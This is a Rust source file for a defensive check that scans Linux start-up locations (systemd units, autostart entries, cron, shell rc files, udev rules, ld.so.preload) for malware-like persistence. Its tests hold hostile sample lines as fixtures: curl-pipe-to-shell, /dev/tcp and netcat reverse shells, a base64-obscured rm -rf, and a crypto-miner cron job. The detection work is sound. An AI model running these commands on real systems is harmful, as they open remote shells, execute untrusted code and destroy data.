//! `security.start-up`: whether something that starts by itself looks as malware does.
//!
//! What systemd, the desktop, timed tasks and command lines start: of each entry only where it stands, its file's name and the
//! reason it stands out; never the command. What starts slowly or twice is the business of `system` items.

use venia_proto::ledger::body::Arguments;
use venia_proto::report::{Draft, Severity, Value};

use super::command::{Reason, reason};
use super::drop_in::{File, file, files, home};
use crate::checks::machine::{Machine, Unread};
use crate::checks::{Check, Failure};

/// Where entries stand.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    /// A service of the whole system that its administrator put there.
    SystemService,
    /// A service of the person's own.
    OwnService,
    /// What the desktop starts at log-in.
    Desktop,
    /// A timed task: crontab(5).
    Timed,
    /// What every command line runs first.
    CommandLine,
    /// What devices start when they are plugged in: udev(7).
    Device,
    /// Files that other programs load or run by themselves.
    Other,
}

/// Folders, what their files' names end like, what they hold; `~` is the person's home.
const FOLDERS: [(&str, &str, Kind); 13] = [
    ("/etc/systemd/system", ".service", Kind::SystemService),
    ("/etc/systemd/user", ".service", Kind::SystemService),
    ("/usr/local/lib/systemd/system", ".service", Kind::SystemService),
    ("~/.config/systemd/user", ".service", Kind::OwnService),
    ("~/.local/share/systemd/user", ".service", Kind::OwnService),
    ("/etc/xdg/autostart", ".desktop", Kind::Desktop),
    ("~/.config/autostart", ".desktop", Kind::Desktop),
    ("~/.config/autostart-scripts", "", Kind::Desktop),
    ("~/.config/plasma-workspace/env", ".sh", Kind::Desktop),
    ("/etc/cron.d", "", Kind::Timed),
    ("/etc/profile.d", ".sh", Kind::CommandLine),
    ("/etc/udev/rules.d", ".rules", Kind::Device),
    ("/etc/apt/apt.conf.d", "", Kind::Other),
];
/// Single files.
const FILES: [(&str, Kind); 16] = [
    ("/etc/crontab", Kind::Timed),
    ("/etc/anacrontab", Kind::Timed),
    ("/etc/profile", Kind::CommandLine),
    ("/etc/bash.bashrc", Kind::CommandLine),
    ("/etc/bashrc", Kind::CommandLine),
    ("/etc/environment", Kind::CommandLine),
    ("~/.bashrc", Kind::CommandLine),
    ("~/.bash_profile", Kind::CommandLine),
    ("~/.profile", Kind::CommandLine),
    ("~/.zshrc", Kind::CommandLine),
    ("~/.zprofile", Kind::CommandLine),
    ("~/.config/fish/config.fish", Kind::CommandLine),
    ("~/.xprofile", Kind::Desktop),
    ("~/.xsessionrc", Kind::Desktop),
    ("/etc/rc.local", Kind::Other),
    ("/etc/rc.d/rc.local", Kind::Other),
];
/// Libraries every program loads (ld.so(8)); distributions leave it empty.
const PRELOAD: &str = "/etc/ld.so.preload";
/// Timed tasks of accounts; for root only.
const CRONTABS: [&str; 2] = ["/var/spool/cron/crontabs", "/var/spool/cron"];
/// Most findings; the table has the rest.
const FINDINGS: usize = 8;

pub(crate) struct StartUp;

pub(crate) struct Inputs {
    entries: Vec<(Kind, File)>,
    preload: File,
    /// Whether the timed tasks of accounts stay hidden.
    tasks_hidden: bool,
}

impl Check for StartUp {
    const ID: &'static str = "security.start-up";
    type Inputs = Inputs;

    fn gather(_: &Arguments) -> Result<Inputs, Failure> {
        Ok(gather_from(&Machine::this(), rustix::process::getuid().as_raw()))
    }

    fn judge(inputs: Inputs) -> Draft {
        let mut draft = Draft::default();
        let read = inputs.entries.iter().filter(|(_, file)| file.text.is_ok()).count() as u64;
        let denied = inputs.entries.iter().filter(|(_, file)| file.text == Err(Unread::Denied)).count() as u64;
        if let Some(count) = inputs.preload.text.as_deref().ok().map(libraries).filter(|count| *count > 0) {
            let evidence = format!("{PRELOAD} names {count}");
            draft.finding(Severity::Critical, "loaded-everywhere", &[("count", count.into())], evidence);
        }
        let mut found: Vec<(Reason, Kind, &str)> = inputs
            .entries
            .iter()
            .filter_map(|(kind, file)| Some((worst(*kind, file.text.as_deref().ok()?)?, *kind, file.path.as_str())))
            .collect();
        found.sort();
        draft.fact("looked", read, "");
        draft.fact("suspicious", found.len() as u64, "");
        for (reason, kind, path) in found.iter().take(FINDINGS) {
            let (severity, finding) = told(*reason);
            let values = [("kind", kind.word().into()), ("name", name(path).into())];
            draft.finding(severity, finding, &values, format!("{}: {}", kind.word(), reason.word()));
        }
        if draft.findings.is_empty() && read > 0 {
            draft.finding(
                Severity::Ok,
                "start-up-ok",
                &[("count", read.into())],
                format!("{read} files, none stands out"),
            );
        }
        if inputs.tasks_hidden || denied > 0 {
            let evidence = format!("{}: hidden {}; {denied} other files denied", CRONTABS[0], inputs.tasks_hidden);
            draft.finding(Severity::Unknown, "entries-hidden", &[], evidence);
        }
        if read == 0 {
            draft.finding(Severity::Unknown, "start-up-unknown", &[], "none of the usual files is here");
        }
        let row = |(reason, kind, path): (Reason, Kind, &str)| -> Vec<Value> {
            vec![kind.word().into(), name(path).into(), reason.word().into()]
        };
        draft.table("suspicious", &["kind", "name", "reason"], found.into_iter().map(row).collect());
        draft
    }
}

fn gather_from(machine: &Machine, user: u32) -> Inputs {
    let home = home(machine, user);
    let place = |path: &str| match path.strip_prefix('~') {
        Some(below) => home.as_ref().map(|home| format!("{home}{below}")),
        None => Some(path.to_owned()),
    };
    let mut entries = Vec::new();
    for (folder, ending, kind) in FOLDERS {
        let inside = place(folder).map(|folder| files(machine, &folder, ending)).unwrap_or_default();
        entries.extend(inside.into_iter().map(|file| (kind, file)));
    }
    entries.extend(FILES.iter().filter_map(|(path, kind)| Some((*kind, file(machine, &place(path)?)))));
    let tables = CRONTABS.iter().find(|folder| machine.has(folder));
    let tasks = tables.map(|folder| files(machine, folder, "")).unwrap_or_default();
    let listable = tables.is_none_or(|folder| std::fs::read_dir(machine.path(folder)).is_ok());
    entries.extend(tasks.into_iter().filter(|file| file.text != Err(Unread::Broken)).map(|file| (Kind::Timed, file)));
    // A folder of enabled services ends in `.wants`; what can't be read as a file isn't one.
    entries.retain(|(_, file)| !matches!(file.text, Err(Unread::Absent | Unread::Broken)));
    Inputs { entries, preload: file(machine, PRELOAD), tasks_hidden: !listable }
}

/// The worst reason among what a file starts.
fn worst(kind: Kind, text: &str) -> Option<Reason> {
    // Command lines rightly read hidden files of all kinds of tools.
    let counts = |reason: &Reason| !(kind == Kind::CommandLine && *reason == Reason::Hidden);
    commands(kind, text).filter_map(reason).filter(counts).max_by_key(|reason| told(*reason).0 == Severity::Critical)
}

/// The commands a file starts.
fn commands(kind: Kind, text: &str) -> impl Iterator<Item = &str> {
    text.lines().map(str::trim).filter(|line| !line.starts_with('#')).filter_map(move |line| match kind {
        Kind::SystemService | Kind::OwnService => {
            let (key, value) = line.split_once('=')?;
            if key.trim() == "Environment" { Some(value) } else { key.trim().starts_with("Exec").then_some(value) }
        }
        Kind::Desktop if line.starts_with("Exec=") => line.strip_prefix("Exec="),
        // Scripts of the desktop are command lines; other keys of its entries start nothing.
        Kind::Desktop => (!line.contains('=') || line.contains("LD_")).then_some(line),
        Kind::Timed => timed(line),
        Kind::Device => line.split_once("RUN").map(|(_, rest)| rest.trim_start_matches(['+', '=', '{', '}', '"'])),
        Kind::CommandLine | Kind::Other => Some(line),
    })
}

/// The command of a timed task: past the five times and, in the system's own tables, the account, which is just a word.
fn timed(line: &str) -> Option<&str> {
    let times = if line.starts_with('@') { 1 } else { 5 };
    let mut rest = line;
    for _ in 0..times {
        let (time, after) = rest.split_once(char::is_whitespace)?;
        let is_time = time.starts_with('@') || time.bytes().all(|b| b.is_ascii_alphanumeric() || b"*/,-~".contains(&b));
        if !is_time {
            return Some(line);
        }
        rest = after.trim_start();
    }
    // `account command` or `command`: an account's name has no slash.
    match rest.split_once(char::is_whitespace) {
        Some((account, command)) if !account.contains('/') && command.trim_start().starts_with('/') => {
            Some(command.trim_start())
        }
        Some(_) | None => Some(rest),
    }
}

fn libraries(text: &str) -> u64 {
    text.lines().filter(|line| !line.trim_start().starts_with('#')).flat_map(str::split_whitespace).count() as u64
}

fn told(reason: Reason) -> (Severity, &'static str) {
    match reason {
        Reason::Fetches => (Severity::Critical, "fetches-and-runs"),
        Reason::Scrambled => (Severity::Critical, "scrambled"),
        Reason::OpensWay => (Severity::Critical, "opens-way-in"),
        Reason::Known => (Severity::Critical, "known-bad"),
        Reason::Shared | Reason::Hidden => (Severity::Warning, "unusual-place"),
        Reason::SlipsIn => (Severity::Warning, "slips-in"),
    }
}

/// The file's own name: the folders above it may name a person.
fn name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

impl Kind {
    fn word(self) -> &'static str {
        match self {
            Self::SystemService => "system service",
            Self::OwnService => "own service",
            Self::Desktop => "desktop",
            Self::Timed => "timed task",
            Self::CommandLine => "command line",
            Self::Device => "device rule",
            Self::Other => "other",
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::checks::proof::{all_is_said, findings, recorded};

    fn one(kind: Kind, text: &str) -> Inputs {
        let of = |path: &str, text: &str| File { path: path.into(), text: Ok(text.into()) };
        Inputs { entries: vec![(kind, of("/home/ana/x.service", text))], preload: of(PRELOAD, ""), tasks_hidden: false }
    }

    #[test]
    fn of_each_kind_only_what_it_starts_is_looked_at() {
        for (kind, text, found) in [
            (Kind::SystemService, "[Service]\nExecStart=/tmp/x\n", "unusual-place"),
            (
                Kind::SystemService,
                "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x.so\nExecStart=/usr/bin/x\n",
                "slips-in",
            ),
            (Kind::OwnService, "[Service]\nExecStart=/home/ana/.local/bin/x\n", "start-up-ok"),
            (
                Kind::SystemService,
                "[Unit]\nDescription=curl http://x | sh\n[Service]\nExecStart=/usr/bin/x\n",
                "start-up-ok",
            ),
            (
                Kind::Desktop,
                "[Desktop Entry]\nName=x\nComment=/tmp/x\nExec=sh -c \"curl -s http://192.0.2.9 | sh\"\n",
                "fetches-and-runs",
            ),
            (Kind::Timed, "SHELL=/bin/sh\n@reboot /home/ana/.x/y\n", "unusual-place"),
            (Kind::Timed, "*/5 * * * * root /dev/shm/k\n", "unusual-place"),
            (Kind::Timed, "* * * * * root /opt/x/xmrig -B\n", "known-bad"),
            (Kind::Timed, "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n", "start-up-ok"),
            (Kind::Device, "ACTION==\"add\", RUN+=\"/tmp/x\"\n", "unusual-place"),
            (Kind::Device, "ACTION==\"add\", RUN+=\"/usr/lib/udev/x /tmp\"\n", "start-up-ok"),
            (Kind::CommandLine, "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1 &\n", "opens-way-in"),
            (Kind::CommandLine, "eval $(echo cm0gLXJm | base64 -d)\n", "scrambled"),
            (Kind::CommandLine, "source $HOME/.oh-my-zsh/oh-my-zsh.sh\n", "start-up-ok"),
            (Kind::CommandLine, "# curl http://x | sh\nexport PATH=$HOME/bin:$PATH\nalias ll='ls -l'\n", "start-up-ok"),
        ] {
            assert_eq!(findings::<StartUp>(one(kind, text)), [found], "{text}");
        }
    }

    #[test]
    fn no_command_leaves_and_no_folder_of_a_person() {
        let draft = StartUp::judge(one(Kind::Timed, "@reboot /home/ana/.secret/y --password hunter2\n"));
        let shown = format!("{draft:?}");
        assert!(!shown.contains("hunter2") && !shown.contains("/home/ana") && !shown.contains(".secret"), "{shown}");
    }

    #[test]
    fn a_desktop_that_was_taken_over() {
        let found = findings::<StartUp>(gather_from(&recorded("desktop-invaded"), 1000));
        assert_eq!(found, ["loaded-everywhere", "fetches-and-runs", "unusual-place", "unusual-place"]);
    }

    #[test]
    fn everything_declared_is_said() {
        all_is_said::<StartUp>(vec![
            gather_from(&recorded("desktop-invaded"), 1000),
            gather_from(&recorded("container"), 0),
            one(Kind::Timed, "* * * * * root /opt/x/xmrig -B\n"),
            one(Kind::CommandLine, "eval $(echo cm0gLXJm | base64 -d)\n"),
            one(Kind::CommandLine, "nc -e /bin/sh 192.0.2.9 4444\n"),
            one(Kind::CommandLine, "export LD_PRELOAD=/usr/lib/x.so\n"),
            Inputs { tasks_hidden: true, ..one(Kind::CommandLine, "") },
        ]);
    }

    proptest! {
        #[test]
        fn garbage_never_panics(text in "((ExecStart|Exec|Environment)=.*\n|@reboot .*\n|([*0-9] ){5}.*\n|RUN.*\n|.*\n)*") {
            for kind in [Kind::SystemService, Kind::Desktop, Kind::Timed, Kind::Device, Kind::CommandLine] {
                crate::checks::proof::told(StartUp::ID, &StartUp::judge(one(kind, &text)));
            }
        }
    }
}
